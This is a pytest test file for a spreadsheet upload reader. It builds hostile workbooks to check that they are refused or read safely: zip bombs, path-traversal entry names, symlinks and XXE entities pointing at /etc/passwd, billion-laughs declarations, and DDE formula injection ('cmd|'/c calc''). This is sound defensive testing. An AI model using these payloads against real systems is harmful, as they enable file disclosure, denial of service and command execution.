"""Files that are made to hurt: each ends in one clear sentence, in little time and memory, and leaves no trace.

What the look before the reading refuses is tested in this process, since it opens nothing; the rest goes through the
child as it does on the site.
"""

import gzip
import io
import random
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from dataclasses import asdict
from json import dumps
from pathlib import Path

import pytest

from cases.imports.reading.children import ROOT, child_environment
from cases.imports.reading.prescan import MEGABYTE, ReadLimits, Refused, kind_of
from cases.imports.reading.read import FileRefused, read_file
from cases.imports.reading.read_child import frames_of
from cases.imports.reading.scan_xlsx import scan_xlsx
from cases.imports.words.problems import render
from tests.cases.imports.builders import HEADINGS, row, workbook

Parts = dict[str, bytes]
SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


@pytest.fixture(scope="module")
def parts(tmp_path_factory: pytest.TempPathFactory) -> Parts:
    path = workbook(tmp_path_factory.mktemp("good") / "good.xlsx", [HEADINGS, row(1), row(2)])
    with zipfile.ZipFile(path) as box:
        return {name: box.read(name) for name in box.namelist()}


def packed(path: Path, parts: Parts, **more: bytes) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as box:
        for name, content in {**parts, **more}.items():
            box.writestr(name, content)
    return path


def looked_at(path: Path) -> str:
    """The code of the refusal; the reader itself is never started."""
    limits = ReadLimits()
    with pytest.raises(Refused) as refusal:
        if kind_of(path, limits=limits) == "xlsx":
            scan_xlsx(path, limits=limits)
        else:
            list(frames_of(path, limits=limits))
    assert render(refusal.value.code, {"row": None, "sheet": "", **refusal.value.params})
    return refusal.value.code


def refused(path: Path) -> str:
    with pytest.raises(FileRefused) as refusal:
        read_file(path)
    assert refusal.value.message
    return refusal.value.code


MEASURED = """
import sys
from cases.imports.reading import read_child
read_child.main()
status = open("/proc/self/status").read()
times = __import__("os").times()
print(status.split("VmHWM:")[1].split()[0], times.user + times.system, file=sys.stderr)
"""


def peak_of(path: Path) -> tuple[int, float]:
    """Megabytes of memory that the child took at most, and its processor time in seconds."""
    request = dumps({"path": str(path), "limits": asdict(ReadLimits())}) + "\n"
    child = subprocess.run(
        [sys.executable, "-c", MEASURED],
        input=request.encode(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        cwd=ROOT,
        env=child_environment(),
        check=True,
    )
    kilobytes, seconds = child.stderr.split()
    return int(kilobytes) // 1024, float(seconds)


@pytest.fixture(autouse=True)
def no_trace(tmp_path: Path):
    """Nothing is written outside the folder of the test, whatever a file asks for."""
    places = [Path(tempfile.gettempdir()), ROOT, ROOT.parent, Path.home()]
    before = {place: {entry.name for entry in place.iterdir()} for place in places}
    yield
    made = {str(place): {entry.name for entry in place.iterdir()} - before[place] for place in places}
    ours = {"escaped", "evil.xml", "passwd"}
    assert not {place: names & ours for place, names in made.items() if names & ours}


# Containers ----------------------------------------------------------------------------------------------------------


def bomb(path: Path, parts: Parts) -> Path:
    return packed(path, {**parts, SHEET: parts[SHEET].replace(b"</sheetData>", b" " * 30_000_000 + b"</sheetData>")})


def test_a_bomb_is_refused_without_unpacking_more_than_is_allowed(tmp_path: Path, parts: Parts):
    path = bomb(tmp_path / "bomb.xlsx", parts)
    assert path.stat().st_size < MEGABYTE
    assert refused(path) == "too_large_unpacked"
    memory, seconds = peak_of(path)
    assert memory < 60
    assert seconds < 5


def test_a_bomb_that_lies_about_its_size_is_caught_while_it_unpacks(tmp_path: Path, parts: Parts):
    content = bytearray(bomb(tmp_path / "bomb.xlsx", parts).read_bytes())
    size = struct.pack("<I", len(parts[SHEET]) + 30_000_000)
    while (at := content.find(size)) != -1:
        content[at : at + 4] = struct.pack("<I", 1000)
    liar = tmp_path / "liar.xlsx"
    liar.write_bytes(content)
    assert looked_at(liar) in ("too_large_unpacked", "file_damaged")


def test_a_container_of_thousands_of_parts_is_refused(tmp_path: Path, parts: Parts):
    many = {f"xl/x{number}.bin": b"" for number in range(5001)}
    assert looked_at(packed(tmp_path / "many.xlsx", {**parts, **many})) == "container_odd"


@pytest.mark.parametrize(
    "name", ["../../escaped", "xl/../../escaped", "/tmp/escaped", "..\\..\\escaped", "C:\\escaped", "\\\\host\\escaped"]
)
def test_names_that_lead_out_of_the_container_are_refused(tmp_path: Path, parts: Parts, name: str):
    assert looked_at(packed(tmp_path / "slip.xlsx", {**parts, name: b"<x/>"})) == "container_odd"


def test_a_name_with_an_end_mark_in_it_is_refused(tmp_path: Path, parts: Parts):
    path = packed(tmp_path / "nul.xlsx", {**parts, "xl/abcXdef.xml": b"<x/>"})
    path.write_bytes(path.read_bytes().replace(b"xl/abcXdef.xml", b"xl/abc\0def.xml"))
    assert looked_at(path) == "container_odd"


def test_links_within_the_container_are_refused(tmp_path: Path, parts: Parts):
    path = packed(tmp_path / "link.xlsx", parts)
    link = zipfile.ZipInfo("xl/passwd.xml")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(path, "a") as box:
        box.writestr(link, "/etc/passwd")
    assert looked_at(path) == "container_odd"


def test_the_same_part_twice_is_refused_since_two_readers_could_differ(tmp_path: Path, parts: Parts):
    path = packed(tmp_path / "twice.xlsx", parts)
    with zipfile.ZipFile(path, "a") as box, pytest.warns(UserWarning):
        box.writestr(SHEET, b"<worksheet/>")
    assert looked_at(path) == "container_odd"


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.99, 0.999])
def test_an_upload_that_broke_off_anywhere_is_refused(tmp_path: Path, parts: Parts, share: float):
    content = packed(tmp_path / "whole.xlsx", parts).read_bytes()
    path = tmp_path / "cut.xlsx"
    path.write_bytes(content[: int(len(content) * share)])
    assert looked_at(path) == "file_damaged"


def test_bytes_turned_over_on_the_way_are_refused(tmp_path: Path, parts: Parts):
    path = packed(tmp_path / "flipped.xlsx", parts)
    content = bytearray(path.read_bytes())
    at = content.find(SHEET.encode()) + len(SHEET) + 40
    content[at : at + 60] = b"\xff" * 60
    path.write_bytes(content)
    assert looked_at(path) == "file_damaged"


def test_a_part_that_is_encrypted_by_itself_is_refused(tmp_path: Path, parts: Parts):
    path = packed(tmp_path / "flag.xlsx", parts)
    content = bytearray(path.read_bytes())
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    path.write_bytes(content)
    assert looked_at(path) == "container_encrypted"


# XML -----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("declaration", [LAUGHS, OUTSIDE])
@pytest.mark.parametrize(
    "name",
    [
        *(SHEET, "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels"),
        *("[Content_Types].xml", "_rels/.rels", "xl/drawings/drawing1.xml", "customXml/item1.xml", "docProps/core.xml"),
    ],
)
def test_entities_are_refused_in_whatever_part_they_stand(tmp_path: Path, parts: Parts, name: str, declaration: bytes):
    content = parts.get(name, b"<x/>")
    root = content.index(b"<", content.find(b"?>") + 2 if b"?>" in content else 0)
    evil = content[:root] + declaration + content[root:]
    assert looked_at(packed(tmp_path / "xxe.xlsx", {**parts, name: evil})) == "xml_entities"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_parts_in_an_encoding_that_would_blind_the_look_are_refused(tmp_path: Path, parts: Parts, encoding: str):
    for name in (SHEET, "xl/workbook.xml"):
        text = parts[name].decode().replace('encoding="UTF-8"', f'encoding="{encoding}"')
        evil = text.replace("<worksheet", LAUGHS.decode() + "<worksheet", 1).encode(encoding)
        assert looked_at(packed(tmp_path / "wide.xlsx", {**parts, name: evil})) == "file_damaged"


def test_a_sheet_under_another_name_is_looked_at_too(tmp_path: Path, parts: Parts):
    """The workbook says which parts are sheets; the ending of their names says nothing."""
    moved = {name: content for name, content in parts.items() if name != SHEET}
    rels = "xl/_rels/workbook.xml.rels"
    moved[rels] = moved[rels].replace(b"worksheets/sheet1.xml", b"media/image1.png")
    moved["xl/media/image1.png"] = parts[SHEET].replace(b"<worksheet", OUTSIDE + b"<worksheet", 1)
    assert looked_at(packed(tmp_path / "moved.xlsx", moved)) == "xml_entities"


def test_backslashes_between_folders_do_not_hide_a_sheet(tmp_path: Path, parts: Parts):
    far = b'<row r="9"><c r="XFD9"><v>1</v></c></row></sheetData>'
    moved = {name.replace("/", "\\"): content for name, content in parts.items()}
    moved[SHEET.replace("/", "\\")] = parts[SHEET].replace(b"</sheetData>", far)
    assert looked_at(packed(tmp_path / "back.xlsx", moved)) == "sheet_too_wide_or_long"


def test_xml_nested_a_hundred_thousand_deep_ends_in_words(tmp_path: Path, parts: Parts):
    deep = b"<a>" * 100_000 + b"</a>" * 100_000
    for name in (SHEET, "xl/workbook.xml"):
        root = parts[name].index(b"<", parts[name].find(b"?>") + 2)
        path = packed(tmp_path / "deep.xlsx", {**parts, name: parts[name][:root] + deep + parts[name][root:]})
        try:
            read_file(path)
        except FileRefused as refusal:
            assert refusal.message


# Sheets --------------------------------------------------------------------------------------------------------------


def with_rows(parts: Parts, rows: bytes) -> Parts:
    return {**parts, SHEET: parts[SHEET].replace(b"</sheetData>", rows + b"</sheetData>")}


@pytest.mark.parametrize(
    ("rows", "code"),
    [
        (b'<row r="9"><c r="XFD1048576"><v>1</v></c></row>', "sheet_too_wide_or_long"),
        (b"<row r='9'><c r='XFD1048576'><v>1</v></c></row>", "sheet_too_wide_or_long"),
        (b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>', "far_cell"),
        (b'<row r="900000"><c r="C900000" t="inlineStr"><is><t>x</t></is></c></row>', "far_cell"),
    ],
)
def test_one_cell_far_away_is_told_where_it_is(tmp_path: Path, parts: Parts, rows: bytes, code: str):
    path = packed(tmp_path / "far.xlsx", with_rows(parts, rows))
    assert looked_at(path) == code
    assert peak_of(path)[0] < 60


def test_all_columns_of_excel_filled_are_refused_in_a_moment(tmp_path: Path):
    started = time.monotonic()
    path = workbook(tmp_path / "wide.xlsx", [[f"c{number}" for number in range(16_384)]])
    assert looked_at(path) == "sheet_too_wide_or_long"
    assert time.monotonic() - started < 20


def test_two_hundred_sheets_are_refused_and_a_dozen_are_read(tmp_path: Path):
    assert looked_at(workbook(tmp_path / "many.xlsx", *([["a", "b"]] for _ in range(200)))) == "sheets_too_many"
    assert len(read_file(workbook(tmp_path / "some.xlsx", *([["a", "b"]] for _ in range(12)))).sheets) == 12


def test_a_small_file_of_many_cells_is_held_to_a_small_limit():
    """What a file may take follows from its size: a gigabyte is for the book of a million rows."""
    limits = ReadLimits()
    small = limits.memory_for(packed=MEGABYTE, unpacked=190 * MEGABYTE)
    large = limits.memory_for(packed=100 * MEGABYTE, unpacked=1000 * MEGABYTE)
    assert small < 500 * MEGABYTE < 2500 * MEGABYTE < large == limits.memory_bytes
    assert limits.cpu_for(MEGABYTE) < limits.wall_for(MEGABYTE) < 90 < limits.cpu_for(100 * MEGABYTE)


@pytest.mark.parametrize(
    "rows",
    [
        b'<row r="3"><c r="A3" t="s"><v>4294967295</v></c></row>',  # no such shared text
        b'<row r="3"><c r="A3" s="99999"><v>1</v></c></row>',  # no such format
        b'<row r="3"><c r="A3" t="zzz"><v>1</v></c></row>',  # no such type
        b'<row r="0"><c r="A0"><v>1</v></c></row>',
        b'<row r="-5"><c r="A-5"><v>1</v></c></row>',
        b'<row r="99999999999999999999"><c r="A99999999999999999999"><v>1</v></c></row>',
        b'<row r="3"><c r="ZZZZZZZZ3"><v>1</v></c></row>',
        b'<row r="3"><c r="A3"><v>1e99999</v></c><c r="B3"><v>nan</v></c></row>',
        b'<row r="3"><c r="A3" t="d"><v>0000-00-00T99:99:99</v></c></row>',
        b'<row r="3"><c r="A3"><f>SUM(</f><v>1</v></c></row>',
        b'<row r="3"><c r="A3" t="inlineStr"><is><t>' + b"x" * 2_000_000 + b"</t></is></c></row>",
    ],
)
def test_nonsense_in_cells_ends_in_a_reading_or_in_words(tmp_path: Path, parts: Parts, rows: bytes):
    path = packed(tmp_path / "odd.xlsx", with_rows(parts, rows))
    try:
        data = read_file(path)
    except FileRefused as refusal:
        assert refusal.message
    else:
        assert data.sheets[0].rows[0] == tuple(HEADINGS)


def test_a_sheet_that_lies_about_its_size_is_read_as_it_is(tmp_path: Path, parts: Parts):
    for lie in (b"A1:XFD1048576", b"A1", b"C7:D9"):
        start = parts[SHEET].index(b'<dimension ref="') + 16
        end = parts[SHEET].index(b'"', start)
        sheet = parts[SHEET][:start] + lie + parts[SHEET][end:]
        assert len(read_file(packed(tmp_path / "lie.xlsx", {**parts, SHEET: sheet})).sheets[0].rows) == 3


def test_hundreds_of_thousands_of_empty_rows_with_a_format_are_no_harm(tmp_path: Path, parts: Parts):
    empty = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (number, number) for number in range(4, 300_000))
    path = packed(tmp_path / "empty.xlsx", with_rows(parts, empty))
    memory, seconds = peak_of(path)
    assert memory < 200
    assert seconds < 20
    assert len([cells for cells in read_file(path).sheets[0].rows if any(cell != "" for cell in cells)]) == 3


# Other kinds of files ------------------------------------------------------------------------------------------------


def an_archive() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as box:
        box.addfile(tarfile.TarInfo("a.xlsx"))
    return out.getvalue()


def a_zip(**parts: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as box:
        for name, content in parts.items():
            box.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


NOISE = random.Random(7).randbytes(4096)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
NO_TABLES: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "file_empty"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3", "format_unsupported"),
    "png": (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "format_unsupported"),
    "jpeg": (b"\xff\xd8\xff\xe0\0\x10JFIF", "format_unsupported"),
    "rtf": (b"{\\rtf1\\ansi \xba\xcf\xcd\xac}", "format_unsupported"),
    "7z": (b"7z\xbc\xaf\x27\x1c\0\4", "format_unsupported"),
    "rar": (b"Rar!\x1a\7\1\0", "format_unsupported"),
    "gz": (gzip.compress(b"a,b\n1,2\n", mtime=0), "format_unsupported"),
    "tar": (an_archive(), "format_unsupported"),
    "sqlite": (b"SQLite format 3\0", "format_unsupported"),
    "exe": (b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8\0\0\0", "format_unsupported"),
    "elf": (b"\x7fELF\2\1\1\0" + bytes(range(256)), "format_unsupported"),
    "empty zip": (a_zip(), "format_unsupported"),
    "ods": (a_zip(content_dot_xml="<office/>", mimetype="application/vnd.oasis"), "format_unsupported"),
    "xlsb": (a_zip(xl__workbook_dot_bin="x"), "format_unsupported"),
    "docx": (a_zip(word__document_dot_xml="<w/>"), "not_a_workbook"),
    "zipped program": (a_zip(a_dot_exe="MZ"), "not_a_workbook"),
    "web table": (b"<table><tr><td>1</td></tr></table>", "html_not_excel"),
    "saved web page": (b"<!-- saved from url --><html></html>", "html_not_excel"),
    "Excel 2003 XML": (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>', "html_not_excel"),
    "stump of an xls": (OLE, "file_damaged"),
    "noise as xls": (OLE + NOISE, "file_damaged"),
    "noise without zeros": (NOISE.replace(b"\0", b""), "encoding_unknown"),
    "noise": (NOISE, "format_unsupported"),
}


@pytest.mark.parametrize("kind", NO_TABLES)
def test_what_is_no_table_is_refused_whatever_its_name_says(tmp_path: Path, kind: str):
    content, code = NO_TABLES[kind]
    for name in ("upload.xlsx", "upload.csv"):
        path = tmp_path / name
        path.write_bytes(content)
        assert looked_at(path) == code


def test_a_folder_and_a_missing_file_are_no_workbook(tmp_path: Path):
    assert looked_at(tmp_path) == looked_at(tmp_path / "not there.xlsx") == "format_unsupported"


def test_a_picture_with_a_workbook_behind_it_is_a_picture(tmp_path: Path, parts: Parts):
    path = packed(tmp_path / "poly.xlsx", parts)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + path.read_bytes())
    assert looked_at(path) == "format_unsupported"


def test_a_workbook_is_read_under_any_name(tmp_path: Path, parts: Parts):
    for name in ("a.xls", "a.csv", "a.et", "a.xlsb", "a.ods", "a"):
        path = packed(tmp_path / name, parts)
        assert len(read_file(path).sheets[0].rows) == 3, name


# What is active ------------------------------------------------------------------------------------------------------


def test_macros_formulas_and_links_are_read_as_plain_cells_and_never_run(tmp_path: Path, parts: Parts):
    active = (
        b'<row r="4"><c r="A4" t="str"><f>HYPERLINK("http://example.com/?"&amp;B2,"x")</f><v>x</v></c>'
        b'<c r="B4" t="str"><f>cmd|\'/c calc\'!A0</f><v>0</v></c>'
        b'<c r="C4"><f>[1]Sheet1!A1</f><v>7</v></c>'
        b'<c r="D4" t="inlineStr"><is><t>=cmd|\'/c calc\'!A0</t></is></c></row>'
    )
    more = {
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships><Relationship Id="rId1" '
        b'Target="file://///host/share/a.xlsx" TargetMode="External"/></Relationships>',
    }
    data = read_file(packed(tmp_path / "active.xlsm", {**with_rows(parts, active), **more}))
    assert data.has_macros
    assert [note.code for note in data.notes] == ["macros_ignored"]
    assert data.sheets[0].rows[3][:4] == ("x", "0", 7.0, "=cmd|'/c calc'!A0")
